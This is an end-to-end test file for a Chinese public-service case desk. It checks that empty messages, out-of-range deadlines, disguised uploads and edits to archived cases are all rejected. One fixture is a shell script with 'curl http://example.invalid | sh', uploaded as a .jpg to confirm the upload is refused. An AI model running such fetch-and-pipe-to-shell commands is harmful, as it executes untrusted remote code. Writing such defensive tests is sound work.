// What must not get into a case at the desk: words that are none, days that are over, files that are something else, anything after archiving.
import { afterEach, describe, expect, it } from 'vitest';
import { caseHandAt, signInAtDesk } from '../support/desk-hand.ts';
import { startHall, type TestHall } from '../support/hall.ts';
import { clockToSet, freePort } from '../support/made-hall.ts';
import { fileCase, peopleOf } from '../support/people.ts';
import { browserOrSkip, openScreens } from '../support/screens.ts';

const browser = await browserOrSkip();
const told = '机器坏了三天了';

describe.skipIf(!browser)('bad input at the desk', () => {
  let hall: TestHall;
  afterEach(() => hall.stop());
  const screens = openScreens(browser);

  it('is said beside what is wrong, and changes nothing', { timeout: 90_000 }, async () => {
    const time = clockToSet('2026-11-23T09:10:00+08:00');
    hall = await startHall({ clock: time.clock, settings: { hall: { hours: 'windows' } } });
    const { xiang } = await peopleOf(hall, { xiang: { name: '向例静', role: 'intake' } });
    const { caseNo } = await fileCase(hall, { words: told });
    const { version } = await xiang.client.cases.accept({ caseNo, version: 1 });
    const desk = await screens.desk(hall.url);
    screens.expectComplaints(desk, /status of 422/);
    await signInAtDesk(desk, xiang);
    await desk.getByRole('link', { name: told }).click();
    const acts = caseHandAt(desk);

    await acts.open(/^告诉群众/);
    await acts.field('告诉群众的话').fill(' ');
    await acts.press('告诉群众');
    await acts.says('先写一句话');

    await acts.open(/^限时解决/);
    await acts.field('谁来办').selectOption({ label: '向例静（我）' });
    for (const [day, words] of [
      ['2026-11-20', /^最早 11月23日/],
      ['2026-12-10', /^最晚 12月9日/],
      ['', /^请选一天/],
    ] as const) {
      await acts.field('哪天办好').fill(day);
      await acts.press('交给这个人办');
      await acts.says(words);
    }

    await acts.open(/^现场解决/);
    await acts.field('告诉群众的结果').fill(' ');
    await acts.press('办结：现场解决');
    await acts.says('请选问题出在哪');
    expect(await desk.getByRole('dialog').count()).toBe(0);

    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');
    await desk
      .locator('input[type="file"]')
      .setInputFiles({ name: '户口本.jpg', mimeType: 'image/jpeg', buffer: script });
    await desk.getByRole('alert').filter({ hasText: '名字是 .jpg，里面却不是，没有收下' }).waitFor();
    await acts.says('还没有材料。可以选文件、拍照，也可以拖到这里或直接粘贴。');

    const now = await xiang.client.cases.get({ caseNo });
    expect([now.version, now.stage, now.entries.map(({ kind }) => kind).sort()]).toEqual([
      version,
      2,
      ['accepted', 'filed'],
    ]);
  });

  it('leaves an archived case as it is', { timeout: 90_000 }, async () => {
    // At work since October: a hall that has only just begun files nothing by its clock.
    const time = clockToSet('2026-10-28T09:00:00+08:00');
    hall = await startHall({
      clock: time.clock,
      overrides: { port: await freePort() },
      settings: { hall: { hours: 'windows' } },
    });
    const { xiang } = await peopleOf(hall, { xiang: { name: '向例静', role: 'intake' } });
    time.set('2026-11-23T09:10:00+08:00');
    await xiang.signIn();
    const { caseNo, queryCode } = await fileCase(hall, { words: told });
    const { version } = await xiang.client.cases.accept({ caseNo, version: 1 });
    await xiang.client.cases.conclude({
      caseNo,
      version,
      handling: 'on-the-spot',
      words: '照好了',
      cause: 'system-fault',
    });
    const citizen = hall.client('1号自助机');
    const answered = { requestId: crypto.randomUUID(), caseNo, queryCode, done: 'yes' } as const;
    await citizen.cases.answer(answered);
    time.set('2026-12-03T09:00:00+08:00');
    await hall.restart();
    await xiang.signIn();
    await expect.poll(async () => (await xiang.client.cases.get({ caseNo })).stage).toBe(7);

    const desk = await screens.desk(hall.url);
    await signInAtDesk(desk, xiang);
    await desk.goto(`${hall.url}/desk/cases/${caseNo}`);
    await desk.getByText(/^已经归档/).waitFor();
    expect(await desk.getByRole('tab').count()).toBe(0);
    expect(await desk.getByRole('button', { name: '选文件' }).count()).toBe(0);
    const closed = await xiang.client.cases.get({ caseNo });
    const on = { caseNo, version: closed.version };
    const words = '再改一句';
    const tries = [
      xiang.client.cases.addEntry({ requestId: crypto.randomUUID(), caseNo, for: 'citizen', words }),
      xiang.client.cases.addEntry({ requestId: crypto.randomUUID(), caseNo, for: 'inside', words }),
      xiang.client.cases.conclude({ ...on, handling: 'on-the-spot', words, cause: 'other' }),
      xiang.client.cases.reclassify({ ...on, kind: 'ask', category: 'consultation' }),
      xiang.client.handling.contact({ ...on, way: 'phone', reached: true, words }),
      citizen.cases.answer({ ...answered, requestId: crypto.randomUUID(), done: 'no' }),
    ];
    const outcomes = await Promise.allSettled(tries);
    expect(outcomes.map((each) => (each.status === 'rejected' ? each.reason.code : 'done'))).toEqual(
      tries.map(() => 'NOT_NOW'),
    );
    const added = citizen.cases.supplement({ requestId: crypto.randomUUID(), caseNo, queryCode, words });
    await expect(added).rejects.toMatchObject({ code: 'INVALID_INPUT' });
    expect((await xiang.client.cases.get({ caseNo })).version).toBe(closed.version);

    expect(await desk.getByText('记一笔').count()).toBe(0);
  });
});
